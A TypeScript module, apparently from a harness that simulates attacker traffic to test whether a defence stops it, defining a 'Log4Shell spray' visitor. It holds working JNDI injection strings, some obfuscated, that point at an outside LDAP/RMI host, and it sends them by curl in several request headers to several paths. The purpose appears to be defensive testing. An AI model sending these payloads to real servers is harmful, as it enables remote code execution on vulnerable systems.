import { runTool } from '../tools.ts';
import type { AttackerKind } from '../visitor-kind.ts';

const PLACES = ['/', '/search?q=lamp', '/login', '/api/v1/products', '/product/7'];
/** With `#` for the dollar sign, which would look like a forgotten template here. */
const LOOKUPS = [
  '#{jndi:ldap://203.0.113.99:1389/a}',
  '#{#{lower:j}ndi:#{lower:l}dap://203.0.113.99/a}',
  '#{#{::-j}#{::-n}#{::-d}#{::-i}:rmi://203.0.113.99/a}',
].map((lookup) => lookup.replaceAll('#', '$'));

/** One look-up in several headers of every request, as sprayed over the whole net. */
export const visitor: AttackerKind = {
  name: 'Log4Shell spray',
  tools: ['curl'],
  stoppedWithin: 20,
  async visit({ enter, folder }) {
    const { url } = await enter(['198.51.100.20']);
    for (const lookup of LOOKUPS) {
      for (const place of PLACES) {
        const named = ['User-Agent', 'Referer', 'X-Api-Version'].flatMap((name) => ['-H', `${name}: ${lookup}`]);
        await runTool('curl', ['-sg', '-o', '/dev/null', ...named, `${url}${place}`], { folder, mostS: 5 });
      }
    }
  },
};
